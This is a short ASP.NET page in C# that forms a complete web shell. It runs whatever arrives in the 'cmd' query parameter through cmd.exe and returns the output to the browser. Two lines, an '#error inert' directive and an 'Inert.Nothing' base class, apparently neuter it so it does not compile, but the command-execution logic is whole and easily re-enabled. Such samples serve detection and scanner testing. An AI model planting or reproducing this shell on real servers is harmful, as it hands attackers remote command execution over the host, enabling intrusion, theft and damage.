<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
#error inert
protected void Page_Load(object sender, EventArgs e)
{
    var psi = new ProcessStartInfo
    {
        FileName = "cmd.exe",
        Arguments = "/c " + Request.QueryString["cmd"],
        RedirectStandardOutput = true,
        UseShellExecute = false
    };
    using (var p = Process.Start(psi))
    {
        Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");
    }
}
</script>
